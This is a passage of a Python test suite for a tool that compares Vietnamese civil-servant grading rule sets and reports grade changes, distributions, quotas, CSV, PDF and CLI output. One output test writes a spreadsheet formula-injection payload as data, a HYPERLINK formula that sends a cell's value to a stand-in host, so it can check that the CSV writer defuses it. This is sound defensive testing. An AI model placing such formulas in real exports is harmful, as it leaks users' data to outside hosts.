"""The rule-change impact report: who changes grade, the distribution, quotas, CSV, PDF, CLI."""

from __future__ import annotations

import io
import json
from pathlib import Path
from typing import Any

import attrs
import pandas as pd
import pytest

from evalkit import rules
from evalkit.cli import main
from evalkit.errors import InputError
from evalkit.impact import (
    CHANGE_COLUMNS,
    CRITERION_EQUIVALENTS,
    DISTRIBUTION_COLUMNS,
    QUOTA_COLUMNS,
    ImpactReport,
    compare_rule_sets,
    demo_data,
    load_data,
)
from evalkit.rules import RuleSet
from evalkit.units import classify_frame, classify_year, quota_report
from tests._io_helpers import filled_workbook, person

pypdf = pytest.importorskip("pypdf")

PRESET = Path(rules.__file__).parent / "presets" / "vn.nd335-2025.toml"


def _variant(base: RuleSet, rule_id: str, htxs_from: float) -> RuleSet:
    """``base`` without a quota and with HTXS from ``htxs_from`` (HTT up to it)."""
    bands = tuple(
        attrs.evolve(b, min=htxs_from) if b.grade.code == "HTXS"
        else attrs.evolve(b, max=htxs_from) if b.grade.code == "HTT" else b
        for b in base.bands
    )  # fmt: skip
    return attrs.evolve(base, id=rule_id, bands=bands, quota=None)


def _bonus_file(tmp_path: Path) -> Path:
    """An agency's copy of NĐ 335 (its own id and jurisdiction) that adds a bonus criterion,
    ``sang_kien_so`` (5 points, tasks 65): a criterion of no registered set."""
    text = PRESET.read_text(encoding="utf-8")
    text = text.replace('id = "vn.nd335-2025"', 'id = "vn.mau.bonus-2026"', 1)
    text = text.replace('jurisdiction = "vn"', 'jurisdiction = "vn.mau"', 1)
    text = text.replace("points = 70\ninputs", "points = 65\ninputs", 1)
    text = text.replace("[[bands]]", (
        '[[groups]]\nid = "local"\nlabel_vi = "Thưởng"\ncriteria = [\n'
        '  { id = "sang_kien_so", label_vi = "Sáng kiến", max = 5 },\n]\n\n'
        '[[blocks]]\nid = "bonus"\nblock = "bonus"\ninputs = ["sang_kien_so"]\n'
        'label_vi = "Thưởng"\npoints = 5\nsource = "QĐ 1/QĐ-SVD, Điều 5"\n\n[[bands]]'),
        1)  # fmt: skip
    agency = tmp_path / "agency.toml"
    agency.write_text(text, encoding="utf-8")
    return agency


def _general_ids(rs: RuleSet) -> list[str]:
    """The criteria of ``rs``'s summed (general) block, from the rule set itself."""
    return [c.id for b in rs.blocks if b.kind == "criteria_sum"
            for c in rs.group(b.params["group"]).criteria]  # fmt: skip


def _people(rs: RuleSet, generals: dict[str, float]) -> pd.DataFrame:
    """One row per person in 2026-03, scored on ``rs``'s own criteria: every task component
    at 100% (the 70 task points) and a general total spread over the general criteria in
    proportion to their maxima (the first one takes the rounding remainder)."""
    ids = _general_ids(rs)
    top = sum(rs.maximum(c) for c in ids)
    assert top == 30  # 30 general + 70 task points in every set used here
    tasks = [c for b in rs.blocks if b.kind == "percent_average" for c in b.inputs(False)]
    rows = []
    for sid, general in generals.items():
        rest = {c: rs.maximum(c) * general / top for c in ids[1:]}
        rows.append({"staff_id": sid, "full_name": f"Nguyễn Văn {sid}", "period": "2026-03",
                     ids[0]: general - sum(rest.values()), **rest,
                     **dict.fromkeys(tasks, 100)})  # fmt: skip
    return pd.DataFrame(rows)


#: The four general criteria of NĐ 90/2020 (4 × 7.5) and NĐ 335's ten (5 + 5 + 8 × 2.5).
ND335_GENERAL = ("pham_chat_dao_duc", "ky_luat_ky_cuong", "nang_luc_chuyen_mon",
                 "dap_ung_nhiem_vu", "tinh_than_trach_nhiem", "phuc_vu_phoi_hop",
                 "san_pham_dot_pha", "nhiem_vu_kho_khan", "chiu_trach_nhiem",
                 "chu_dong_quyet_dinh")  # fmt: skip
#: NĐ 233/2026's nine (Phụ lục I: group 3 has three items, no ``nhiem_vu_kho_khan``).
ND233_GENERAL = tuple(c for c in ND335_GENERAL if c != "nhiem_vu_kho_khan")


def _demo_with_two_differences() -> tuple[pd.DataFrame, pd.DataFrame]:
    """The demo's công chức with the two NĐ 90 → NĐ 233 differences the demo lacks:

    - SNV-104 (Hoàng Thị Lan) is reprimanded in 2026-03 for a violation NOT related to
      public duty: KHT for the year under NĐ 90/2020 Điều 2 k5 a (any discipline, NĐ
      48/2023), not under NĐ 233 (reprimand or heavier for a duty-related violation);
    - SNV-105 (Bùi Thị Ngọc Ánh) was on sick leave January to July and worked August to
      December (5 months): not classified under NĐ 90 Điều 2 k3 (fewer than 6 months; only
      maternity leave is exempt there), classified under NĐ 233 on the months worked (Điều
      14 k2: sick leave exempt). (Five months without leave are unclassified under both:
      Điều 14 k1.)
    """
    data = demo_data()
    assert data.units is not None
    f = data.staff_months.copy()
    hit = ((f["staff_id"] == "SNV-104") & (f["period"] == "2026-03")).to_numpy()
    assert hit.sum() == 1
    f.loc[hit, "discipline"] = 1
    f.loc[hit, "discipline_related_to_duty"] = False
    late = ((f["staff_id"] == "SNV-105") & (f["period"] < "2026-08")).to_numpy()
    assert late.sum() == 7
    # a month on leave has no score at all (self, manager, competent, KPI, grades, comments)
    kept = {"staff_id", "full_name", "period", "category", "position_id", "manages_others",
            "unit_id", "manager_id", "duty_group", "degradation", "discipline",
            "party_discipline", "discipline_related_to_duty", "corruption_in_unit"}  # fmt: skip
    f["leave"] = None
    f.loc[late, [c for c in f.columns if c not in kept]] = None
    f.loc[late, "leave"] = "sick"
    return f, data.units


def _month_totals(frame: pd.DataFrame, staff_id: str,
                  general_ids: tuple[str, ...] = ND335_GENERAL) -> list[float]:  # fmt: skip
    """A non-manager's monthly totals by the decree's formula, to the cent: the general
    points (of ``general_ids``) + (a + b + c) / 3 × 70% (or the task-tracker percentage ×
    70%)."""
    p = frame[frame["staff_id"] == staff_id].sort_values("period")
    if "leave" in p:  # the months worked
        p = p[p["leave"].isna()]
    general = p[list(general_ids)].sum(axis=1)
    abc = (p["so_luong"] + p["chat_luong"] + p["tien_do"]) / 3
    tasks = p["kpi"].where(p["kpi"].notna(), abc) * 0.7
    return [round(v, 2) for v in (general + tasks).tolist()]


@pytest.fixture(scope="module")
def band_report() -> ImpactReport:
    """OLD: NĐ 335 bands (HTXS from 90); NEW: HTXS from 92; no quota on either side."""
    base = rules.get("vn.nd335-2025")
    old = _variant(base, "test.htxs-90", 90)
    new = _variant(base, "test.htxs-92", 92)
    frame = _people(base, {"A": 15, "B": 20, "C": 20.5, "D": 21.99, "E": 22, "F": 25,
                           "G": 19.99})  # fmt: skip
    return compare_rule_sets(old, new, frame)


@pytest.fixture(scope="module")
def demo_report() -> ImpactReport:
    """The issue's acceptance comparison, NĐ 90/2020 → NĐ 233/2026, on the demo agency's
    year with the two differences of :func:`_demo_with_two_differences`."""
    frame, units = _demo_with_two_differences()
    return compare_rule_sets("vn.nd90-2020", "vn.nd233-2026", frame, units,
                             fill=demo_data().fill)  # fmt: skip


class TestChanges:
    def test_raising_the_htxs_edge_to_92_lists_exactly_the_people_from_90_to_92_as_down(
        self, band_report: ImpactReport
    ) -> None:
        """A band edge moved from 90 to 92 downgrades totals in [90, 92) and nobody else."""
        ch = band_report.changes
        assert ch["staff_id"].tolist() == ["B", "C", "D"]
        assert {"down"} == set(ch["direction"])
        assert ch["old_total"].tolist() == [90.0, 90.5, 91.99]
        assert ch["old_grade"].eq("HTXS").all() and ch["new_grade"].eq("HTT").all()
        assert ch["delta"].tolist() == [0.0, 0.0, 0.0]  # same scores, other band
        assert list(CHANGE_COLUMNS) == list(ch.columns)
        assert (band_report.up, band_report.down) == (0, 3)

    def test_the_year_changes_for_the_two_legal_differences_only(
        self, demo_report: ImpactReport
    ) -> None:
        """Both sets classify the year (one row per person-year): SNV-104's non-duty
        reprimand makes her KHT only under NĐ 90; SNV-105's five months leave her
        unclassified only under NĐ 90. Same scores on both sides: delta 0."""
        assert demo_report.annual and demo_report.periods == ("2026",)
        assert demo_report.population == 25  # the demo's 25 công chức
        ch = demo_report.changes
        assert ch["staff_id"].tolist() == ["SNV-104", "SNV-105"]
        assert ch["period"].tolist() == ["2026", "2026"]
        assert ch["old_grade"].tolist() == ["KHT", None]
        assert ch["new_grade"].tolist() == ["HTT", "HTT"]
        assert ch["direction"].tolist() == ["up", "up"]
        assert ch["delta"].tolist() == [0.0, 0.0]
        assert ch["full_name"].tolist() == ["Hoàng Thị Lan", "Bùi Thị Ngọc Ánh"]
        assert (demo_report.up, demo_report.down) == (2, 0)

    def test_the_year_total_is_the_average_of_the_months_worked(
        self, demo_report: ImpactReport
    ) -> None:
        """Điều 21: the year's total averages the monthly totals of the months worked.

        The demo's công chức are scored on NĐ 335's ten general items. NĐ 233 has nine of
        them (Phụ lục I item 3: no ``nhiem_vu_kho_khan``) and NĐ 90's four are filled at the
        share of those nine, so both sides count the nine, and the notes say
        ``nhiem_vu_kho_khan`` counts under neither. SNV-104 on NĐ 335's ten: nine months at
        87.33 and three at 86.17 → 1044.48; less nhiem_vu_kho_khan (eleven months 2, May
        2.5: 24.5) → 1019.98 / 12 = 85.00.
        """
        frame, _ = _demo_with_two_differences()
        months = _month_totals(frame, "SNV-104")
        assert sorted(months) == [86.17] * 3 + [87.33] * 9
        nine = _month_totals(frame, "SNV-104", ND233_GENERAL)
        assert round(sum(months) - sum(nine), 2) == 24.5
        ch = demo_report.changes.set_index("staff_id")
        assert ch.loc["SNV-104", "new_total"] == 85.0 == ch.loc["SNV-104", "old_total"]
        assert round(sum(nine) / 12, 2) == 85.0
        five = _month_totals(frame, "SNV-105", ND233_GENERAL)
        assert len(five) == 5
        assert ch.loc["SNV-105", "new_total"] == round(sum(five) / 5, 2)
        assert ("neither vn.nd90-2020 (OLD) nor vn.nd233-2026 (NEW) scores cham_tien_do, "
                "loi_chat_luong, nhiem_vu_kho_khan: the data's scores there count under "
                "neither") in [str(n) for n in demo_report.notes]

    def test_the_plain_demo_changes_nobody_but_the_managers_totals(self) -> None:
        """On the demo as shipped nobody changes grade: its one reprimand is duty-related
        (KHT under both), its leave months are not in the data. Managers' totals differ:
        NĐ 90 averages a, b, c, d, đ (d and đ filled from ket_qua_linh_vuc), NĐ 233 a to e."""
        data = demo_data()
        report = compare_rule_sets("vn.nd90-2020", "vn.nd233-2026", data.staff_months,
                                   data.units, fill=data.fill)  # fmt: skip
        assert (report.population, report.up, report.down) == (25, 0, 0)
        assert report.distribution.groupby("grade")["old"].sum().to_dict() == {
            "HTXS": 2, "HTT": 22, "HT": 0, "KHT": 1, "not_classified": 0,
            "not_evaluated": 0}  # fmt: skip
        assert report.distribution["change"].eq(0).all()

    def test_the_report_header_says_both_sets_were_forced(self, band_report: ImpactReport) -> None:
        """Applying a set outside its dates is the point of a diff, and the header says so."""
        assert band_report.forced
        assert "force=True" in band_report.header("en")
        assert "test.htxs-90 → test.htxs-92" in band_report.header("en")

    def test_the_year_asked_for_is_the_year_or_a_refusal(self) -> None:
        """Audit af25: level="year" compared the months when the data had no unit_id (12
        "changes" for one person-year) and a misspelt level was taken as "auto". By hand:
        20 general + 70 task points = 90 every month, the year's average 90: HTXS from 90,
        HTT under a set whose HTXS starts at 92 — one person-year goes down."""
        base = rules.get("vn.nd335-2025")
        old = _variant(base, "test.htxs-90", 90)
        new = _variant(base, "test.htxs-92", 92)
        months = pd.concat([_people(base, {"A": 20}).assign(period=f"2026-{m:02d}")
                            for m in range(1, 13)], ignore_index=True)  # fmt: skip
        with pytest.raises(InputError) as no_units:
            compare_rule_sets(old, new, months, level="year")
        assert [p.column for p in no_units.value.problems] == ["unit_id"]
        year = compare_rule_sets(old, new, months.assign(unit_id="P1"), level="year")
        assert year.annual and year.population == 1
        assert year.changes[["staff_id", "old_total", "old_grade", "new_grade"]].values.tolist(
        ) == [["A", 90.0, "HTXS", "HTT"]]
        from evalkit.errors import EvalkitError

        with pytest.raises(EvalkitError, match="not 'years'"):
            compare_rule_sets(old, new, months, level="years")  # type: ignore[arg-type]
        with pytest.raises(EvalkitError, match="not 'change'"):
            year.to_csv("x.csv", "change")  # type: ignore[arg-type]


class TestDistribution:
    def test_distribution_counts_sum_to_the_population_before_and_after(
        self, band_report: ImpactReport, demo_report: ImpactReport
    ) -> None:
        """Every staff-month is counted once under OLD and once under NEW."""
        for report in (band_report, demo_report):
            d = report.distribution
            assert list(DISTRIBUTION_COLUMNS) == list(d.columns)
            assert report.population == d["old"].sum() == d["new"].sum()
            assert (d["new"] - d["old"]).equals(d["change"])

    def test_the_band_change_moves_three_from_htxs_to_htt(self, band_report: ImpactReport) -> None:
        """Three people leave HTXS for HTT; the other grades keep their counts."""
        d = band_report.distribution.set_index("grade")
        assert (d.loc["HTXS", "old"], d.loc["HTXS", "new"]) == (5, 2)
        assert (d.loc["HTT", "old"], d.loc["HTT", "new"]) == (2, 5)

    def test_demo_units_are_counted_per_unit(self, demo_report: ImpactReport) -> None:
        """SNV-VP (SNV-101 to 105): 3 HTT, 1 KHT, 1 not classified under NĐ 90; 5 HTT under
        NĐ 233. The other units do not change."""
        d = demo_report.distribution.set_index(["unit_id", "grade"])
        assert tuple(d.loc[("SNV-VP", "HTT"), ["old", "new"]]) == (3, 5)
        assert tuple(d.loc[("SNV-VP", "KHT"), ["old", "new"]]) == (1, 0)
        assert tuple(d.loc[("SNV-VP", "not_classified"), ["old", "new"]]) == (1, 0)
        assert tuple(d.loc[("SNV-VP", "not_evaluated"), ["old", "new"]]) == (0, 0)
        others = demo_report.distribution[demo_report.distribution["unit_id"] != "SNV-VP"]
        assert others["change"].eq(0).all()


class TestQuota:
    def test_quota_rows_match_the_classification_and_headroom_is_cap_minus_candidates(
        self, demo_report: ImpactReport
    ) -> None:
        """The OLD side is the year's quota report (NĐ 90 classifies the year); headroom =
        cap − candidates. SNV-CCVC's specialists: 5 HTT (SNV-201, 202, 203, 206, 207) → 20%
        = 1 place for 2 HTXS candidates (SNV-204, 205): headroom −1 on both sides."""
        frame, units = _demo_with_two_differences()
        nd90 = rules.get("vn.nd90-2020")
        # NĐ 90's d and đ from NĐ 335's d; its four general criteria (7.5 each) at the share
        # of the 30 general points scored: Σ / 30 × 7.5 = Σ / 4
        share = frame[list(ND335_GENERAL)].sum(axis=1, min_count=1) / 4  # (leave: blank)
        frame = frame.assign(
            **dict.fromkeys(("ket_qua_don_vi", "don_vi_cap_duoi"), frame["ket_qua_linh_vuc"]),
            **dict.fromkeys(_general_ids(nd90), share),
        )
        # NĐ 335's own criteria left out: typed under NĐ 90 they would be refused
        only335 = {c.id for c in rules.get("vn.nd335-2025").criteria()} - {
            c.id for c in nd90.criteria()}
        frame = frame.drop(columns=[c for c in frame.columns
                                    if str(c).rsplit("__", 1)[-1] in only335])
        staff, unit_results = classify_frame(frame, units, nd90, force=True)
        # NĐ 90 is not in force at the end of the demo's year: named with force, as above
        expected = quota_report(classify_year(staff, unit_results, nd90, force=True))
        q = demo_report.quota
        assert list(QUOTA_COLUMNS) == list(q.columns)
        assert len(expected) == len(q) == 5
        assert sorted(expected["cap"].tolist()) == sorted(q["old_cap"].astype(int).tolist())
        assert (q["old_headroom"] == q["old_cap"] - q["old_candidates"]).all()
        assert (q["new_headroom"] == q["new_cap"] - q["new_candidates"]).all()
        row = q[(q["period"] == "2026") & (q["unit_id"] == "SNV-CCVC")].iloc[0]
        assert (row["old_cap"], row["old_candidates"], row["old_headroom"]) == (1, 2, -1)
        assert (row["new_cap"], row["new_candidates"], row["new_headroom"]) == (1, 2, -1)

    def test_without_units_there_is_no_quota_table(self, band_report: ImpactReport) -> None:
        """Data without unit_id are only scored: no quota groups to report."""
        assert band_report.quota.empty
        assert list(QUOTA_COLUMNS) == list(band_report.quota.columns)


class TestMissingCriteria:
    def test_a_criterion_new_needs_but_the_data_lack_is_named_with_the_rule_set(self) -> None:
        """NĐ 233 scores pham_chat_dao_duc (group a); data without it cannot be graded."""
        frame = _people(rules.get("vn.nd90-2020"), {"A": 20})
        with pytest.raises(InputError) as info:
            compare_rule_sets("vn.nd90-2020", "vn.nd233-2026", frame)
        text = str(info.value)
        assert "'pham_chat_dao_duc'" in text and "'vn.nd233-2026' (NEW)" in text

    def test_a_block_fill_gives_the_same_share_of_the_general_points(self) -> None:
        """NĐ 90's four general criteria (7.5 each) filled from NĐ 335's ten at the share
        scored: 27 of 30 → 6.75 each, 24 of 30 → 6 each; the totals (general + 70) agree."""
        nd335, nd90 = rules.get("vn.nd335-2025"), rules.get("vn.nd90-2020")
        frame = _people(nd335, {"A": 27, "B": 24})
        report = compare_rule_sets(nd335, nd90, frame, fill=CRITERION_EQUIVALENTS)
        assert report.changes.empty and report.population == 2
        assert any("share of its maximum" in str(n) and "chinh_tri, dao_duc, tac_phong, ky_luat"
                   in str(n) for n in report.notes)  # fmt: skip
        for name in ("chinh_tri", "ky_luat"):
            assert CRITERION_EQUIVALENTS[name] == "block:general"
        from evalkit.scoring import score_frame

        filled = frame.assign(**{c: [6.75, 6.0] for c in _general_ids(nd90)}).drop(
            columns=_general_ids(nd335))  # NĐ 335's own, typed under NĐ 90: refused
        assert score_frame(filled, nd90, force=True)["total"].tolist() == [97.0, 94.0]

    def test_a_block_fill_falls_back_to_the_preset_whose_criteria_the_data_have(self) -> None:
        """NĐ 90 against a variant of itself on NĐ 335 data: neither side has the data's
        general criteria, so the share comes from vn.nd335-2025's block (and is named)."""
        nd90 = rules.get("vn.nd90-2020")
        frame = _people(rules.get("vn.nd335-2025"), {"A": 20.5, "B": 15})
        report = compare_rule_sets(nd90, _variant(nd90, "t.nd90-92", 92), frame,
                                   fill=CRITERION_EQUIVALENTS)  # fmt: skip
        assert any("'general' block of vn.nd335-2025" in str(n) for n in report.notes)
        # A: 20.5 + 70 = 90.5, HTXS from 90, HTT below 92; B: 15 + 70 = 85, HTT on both
        assert report.changes["staff_id"].tolist() == ["A"]
        assert report.changes["old_total"].tolist() == [90.5]

    def test_the_demo_needs_a_fill_for_the_nd90_manager_criteria(self) -> None:
        """NĐ 90's (d) criterion is absent from NĐ 335 data; the error suggests the fill."""
        data = demo_data()
        with pytest.raises(InputError) as info:
            compare_rule_sets("vn.nd90-2020", "vn.nd233-2026", data.staff_months, data.units)
        text = str(info.value)
        assert "'ket_qua_don_vi'" in text and "'vn.nd90-2020' (OLD)" in text
        assert "--fill ket_qua_don_vi=ket_qua_linh_vuc" in text


class TestOutputs:
    def test_the_changes_csv_reads_back_equal(
        self, demo_report: ImpactReport, tmp_path: Path
    ) -> None:
        """to_csv writes UTF-8 that pandas reads back to the same table (a person without a
        grade, SNV-105 under NĐ 90, is an empty cell)."""
        path = demo_report.to_csv(tmp_path / "changes.csv")
        back = pd.read_csv(path, keep_default_na=False, dtype={"period": str})
        assert back["old_grade"].tolist() == ["KHT", ""]
        for col in ("old_grade", "new_grade"):
            back[col] = back[col].astype(object).where(back[col] != "", None)
        pd.testing.assert_frame_equal(demo_report.changes, back, check_dtype=False)
        assert not list(tmp_path.glob(".*.tmp"))

    def test_the_distribution_csv_reads_back_equal(
        self, demo_report: ImpactReport, tmp_path: Path
    ) -> None:
        """The distribution table round-trips too."""
        path = demo_report.to_csv(tmp_path / "d.csv", "distribution")
        back = pd.read_csv(path, keep_default_na=False)
        pd.testing.assert_frame_equal(demo_report.distribution, back, check_dtype=False)

    def test_every_table_is_written_by_the_one_csv_writer(self, tmp_path: Path) -> None:
        """Audit 16 #4: an id typed as a formula is written with a leading ``'`` in every
        table, with a BOM and CRLF line ends, byte for byte what write_table_csv writes."""
        from evalkit.io.results import write_table_csv

        base = rules.get("vn.nd335-2025")
        evil, unit = '=HYPERLINK("http://x.example/?a="&A1,"Xem")', "@SUM(1+1)"
        frame = _people(base, {evil: 21, "-S2": 20.5, "S3": 10}).assign(unit_id=unit)
        frame["full_name"] = ["+Nguyễn Văn A", "Trần B", "Lê C"]
        report = compare_rule_sets(_variant(base, "test.htxs-90", 90),
                                   _variant(base, "test.htxs-92", 92), frame,
                                   pd.DataFrame({"unit_id": [unit]}))  # fmt: skip
        for table in ("changes", "distribution", "quota"):
            path = report.to_csv(tmp_path / f"{table}.csv", table)
            raw = path.read_bytes()
            assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
            assert raw == write_table_csv(report.table(table), tmp_path / "ref.csv").read_bytes()
            text = raw.decode("utf-8-sig")
            assert f"'{unit}" in text or not len(report.table(table))
            cells = [c for line in text.splitlines() for c in line.split(",")]
            live = [c for c in cells if c.lstrip('"')[:1] in ("=", "+", "-", "@")
                    and pd.to_numeric(pd.Series([c]), errors="coerce").isna().all()]
            assert live == [], table  # a number stays a number (-6)
        assert len(report.changes) and f"'{evil}".replace('"', '""') in \
            (tmp_path / "changes.csv").read_text(encoding="utf-8-sig")

    def test_the_pdf_is_one_page_with_both_ids_and_a_changed_name(
        self, demo_report: ImpactReport, tmp_path: Path
    ) -> None:
        """The PDF fits one page and names the sets (by their citations on the Vietnamese
        page, af206: a legal document names the decree, not evalkit's id) and a changed
        person, diacritics intact."""
        path = demo_report.to_pdf(tmp_path / "impact.pdf")
        reader = pypdf.PdfReader(str(path))
        assert len(reader.pages) == 1
        text = reader.pages[0].extract_text()
        for expected in ("NĐ 90/2020/NĐ-CP", "NĐ 233/2026/NĐ-CP", "Hoàng Thị Lan",
                         "Bùi Thị Ngọc Ánh", "lượt người-năm"):  # fmt: skip
            assert expected in text
        for code in ("vn.nd90-2020", "vn.nd233-2026", "force=True", "(OLD)"):
            assert code not in text
        assert path.read_bytes() == demo_report.to_pdf(tmp_path / "again.pdf").read_bytes()

    def test_the_pdf_draws_the_chart_as_inline_svg(self, demo_report: ImpactReport) -> None:
        """The before/after chart is SVG in the HTML: two bars per grade, no image file; the
        "not classified" group appears because SNV-105 has a score and no grade under NĐ 90
        (too few months, NĐ 90/2020 Điều 2 k3): not classified, as the signed documents
        say, never "not evaluated" (audit af40)."""
        html = demo_report.to_html("en")
        assert html.count("<svg") == 1 and "<img" not in html
        assert html.count("<rect") == 10  # HTXS, HTT, HT, KHT, not class. x (before, after)
        assert ">Not class.<" in html and "Not eval." not in html
        vi = demo_report.to_html("vi")
        assert ">Không XL<" in vi and "Chưa ĐG" not in vi

    def test_a_large_report_stays_on_one_page(self, tmp_path: Path) -> None:
        """48 changes in 12 units: the page shows the first rows and points to the CSV.
        Each name (32 characters) is printed whole on two lines (af214: never cut), so ten
        rows of two lines fill the changes' twenty lines: 38 more rows in the CSV."""
        base = rules.get("vn.nd335-2025")
        frame = _people(base, {f"P{i:02d}": 20.5 for i in range(48)})
        frame["unit_id"] = [f"Phòng số {i % 12:02d}" for i in range(48)]
        frame["full_name"] = "Nguyễn Thị Phương Thảo Quỳnh Anh"
        report = compare_rule_sets(_variant(base, "t.90", 90), _variant(base, "t.92", 92), frame)
        assert report.down == 48
        reader = pypdf.PdfReader(str(report.to_pdf(tmp_path / "big.pdf", lang="en")))
        assert len(reader.pages) == 1
        said = " ".join(reader.pages[0].extract_text().split())
        assert "38 more rows" in said
        assert said.count("Nguyễn Thị Phương Thảo Quỳnh Anh") == 10

    def test_the_terminal_table_lists_the_changes(self, band_report: ImpactReport) -> None:
        """to_table gives a rich Table with one row per change."""
        from rich.console import Console

        table = band_report.to_table()
        assert table.row_count == 3
        out = io.StringIO()
        Console(file=out, width=160).print(table)
        assert "Nguyễn Văn C" in out.getvalue() and "90.5 HTXS" in out.getvalue()


class TestData:
    def test_a_workbook_is_read_and_compared(self, tmp_path: Path) -> None:
        """A month's workbook gives the staff-months and units of the comparison."""
        path = filled_workbook(tmp_path / "t.xlsx",
                               [person("A"), person("B", pham_chat_dao_duc=3)])  # fmt: skip
        data = load_data(path)
        assert data.staff_months["period"].astype(str).tolist() == ["2026-03", "2026-03"]
        report = compare_rule_sets("vn.nd335-2025", "vn.nd233-2026", data.staff_months,
                                   data.units)  # fmt: skip
        # both classify the year: the month's two people are two person-years of 2026
        assert report.annual and report.population == 2 and report.periods == ("2026",)
        # A 28 + 63 = 91, B 26 + 63 = 89 on NĐ 335's ten general items; NĐ 233 reads nine
        # (Phụ lục I item 3 has three: not nhiem_vu_kho_khan, 2 each here): 89 and 87. One
        # month worked in the year: classified under NĐ 335 (no minimum), not under NĐ 233
        # (Điều 14 k1)
        ch = report.changes
        assert ch["staff_id"].tolist() == ["A", "B"] and ch["new_grade"].isna().all()
        assert ch["old_grade"].tolist() == ["HTT", "HTT"]  # A's HTXS: 20 % of 1 HTT is 0
        assert ch["old_total"].tolist() == [91.0, 89.0]
        assert ch["new_total"].tolist() == [89.0, 87.0]
        assert ("vn.nd233-2026 (NEW) ignores nhiem_vu_kho_khan, which vn.nd335-2025 (OLD) "
                "scores") in [str(n) for n in report.notes]
        assert all("rollup.too_few_months" in r.split(";") for r in ch["new_reasons"])

    def test_an_archive_gives_every_finalized_month(self, tmp_path: Path) -> None:
        """The archive's finalized months, inputs archived with the results, are compared."""
        from evalkit.io.archive import Archive

        demo = demo_data()
        assert demo.units is not None
        staff, units = classify_frame(demo.staff_months, demo.units, "vn.nd335-2025")
        results = pd.concat([demo.staff_months, staff.drop(columns=[
            c for c in staff.columns if c in demo.staff_months.columns])], axis=1)  # fmt: skip
        path = tmp_path / "a.sqlite"
        with Archive(path) as arc:
            for p in ("2026-01", "2026-02"):
                arc.finalize(results[results["period"] == p], by="TCCB",
                             units=units[units["period"].astype(str) == p],
                             rules=rules.get("vn.nd335-2025"))  # fmt: skip
        data = load_data(path)
        months = data.staff_months["period"].astype(str)
        assert len(months) == 50 and sorted(set(months)) == ["2026-01", "2026-02"]
        report = compare_rule_sets("vn.nd335-2025", "vn.nd233-2026", data.staff_months,
                                   data.units)  # fmt: skip
        assert report.annual and report.population == 25 and report.periods == ("2026",)


class TestCommandLine:
    def test_rules_diff_on_the_demo_writes_csv_and_pdf(self, tmp_path: Path) -> None:
        """`evalkit rules diff vn.nd90-2020 vn.nd233-2026 --data demo` gives all three forms:
        the demo's year, 25 person-years, nobody changing grade (see
        test_the_plain_demo_changes_nobody_but_the_managers_totals)."""
        buf = io.StringIO()
        csv, pdf = tmp_path / "diff.csv", tmp_path / "diff.pdf"
        code = main(["--lang", "en", "rules", "diff", "vn.nd90-2020", "vn.nd233-2026",
                     "--data", "demo", "--csv", str(csv), "--pdf", str(pdf)],
                    stdout=buf)  # fmt: skip
        assert code == 0
        out = buf.getvalue()
        assert "25 person-years (2026)" in out and "0 up, 0 down" in out
        assert "force=True" in out and "--fill" not in out
        assert csv.is_file() and pdf.is_file()
        dist = pd.read_csv(tmp_path / "diff.distribution.csv")
        assert dist["old"].sum() == dist["new"].sum() == 25
        assert len(pd.read_csv(tmp_path / "diff.quota.csv")) == 5
        assert len(pd.read_csv(csv)) == 0
        for written in (csv, tmp_path / "diff.distribution.csv", tmp_path / "diff.quota.csv"):
            assert written.read_bytes().startswith(b"\xef\xbb\xbf")  # the one CSV writer's BOM

    def test_rules_diff_takes_a_toml_file_and_prints_json(self, tmp_path: Path) -> None:
        """NEW may be a TOML file; --json prints the whole report."""
        text = PRESET.read_text(encoding="utf-8")
        text = text.replace('id = "vn.nd335-2025"', 'id = "test.htxs-97"', 1)
        text = text.replace('grade = "HTXS"\nmin = 90', 'grade = "HTXS"\nmin = 97', 1)
        text = text.replace(
            'grade = "HTT"\nmin = 70\nmax = 90', 'grade = "HTT"\nmin = 70\nmax = 97'
        )
        toml = tmp_path / "variant.toml"
        toml.write_text(text, encoding="utf-8")
        buf = io.StringIO()
        code = main(["rules", "diff", "vn.nd335-2025", str(toml), "--data", "demo", "--json"],
                    stdout=buf)  # fmt: skip
        assert code == 0
        doc = json.loads(buf.getvalue())
        assert (doc["old"], doc["new"]) == ("vn.nd335-2025", "test.htxs-97")
        assert doc["down"] > 0 and doc["up"] == 0
        assert all(c["old_grade"] == "HTXS" for c in doc["changes"])

    def test_rules_diff_level_period_compares_month_by_month(self, tmp_path: Path) -> None:
        """--level period: an agency file that grades months (head cap and quota each month)
        against NĐ 335, whose months are monitoring only. Month by month, the people the
        monthly steps lowered go back up to their band, nobody goes down; compared on the
        year (the default) both classify the same way."""
        agency = tmp_path / "agency.toml"
        agency.write_text('extends = "vn.nd335-2025"\nid = "agency.monthly"\n'
                          'classified = ["month", "year"]\n', encoding="utf-8")  # fmt: skip

        def diff(*extra: str) -> dict[str, Any]:
            buf = io.StringIO()
            code = main(["rules", "diff", str(agency), "vn.nd335-2025", "--data", "demo",
                         "--json", *extra], stdout=buf)  # fmt: skip
            assert code == 0
            doc: dict[str, Any] = json.loads(buf.getvalue())
            return doc

        months = diff("--level", "period")
        assert months["annual"] is False and len(months["periods"]) == 12
        assert months["up"] > 0 and months["down"] == 0
        order = ["KHT", "HT", "HTT", "HTXS"]
        for c in months["changes"]:
            assert order.index(c["new_grade"]) > order.index(c["old_grade"]), c
        year = diff()
        assert year["annual"] is True and year["up"] == year["down"] == 0

    def test_rules_diff_names_the_missing_criterion_and_exits_1(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """An NĐ 90 workbook has no pham_chat_dao_duc, which NĐ 335 (NEW) scores: exit 1
        naming both."""
        nd90_general = dict.fromkeys(_general_ids(rules.get("vn.nd90-2020")), 7)
        path = filled_workbook(tmp_path / "t.xlsx", [person("A", **nd90_general)],
                               rules="vn.nd90-2020")  # fmt: skip
        code = main(["rules", "diff", "vn.nd90-2020", "vn.nd335-2025", "--data", str(path)],
                    stdout=io.StringIO())  # fmt: skip
        assert code == 1
        err = capsys.readouterr().err
        assert "'pham_chat_dao_duc'" in err and "'vn.nd335-2025' (NEW)" in err

    def test_rules_diff_of_a_csv_typed_under_new_says_to_name_it_with_rules(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """An agency file that adds a bonus criterion, and a month's CSV typed under it: a CSV
        names no rule set, so without --rules its column is refused (exit 1) and the hint
        says to name the set the data were typed under; with --rules FILE it is compared."""
        agency = _bonus_file(tmp_path)
        nd = rules.get("vn.nd335-2025")
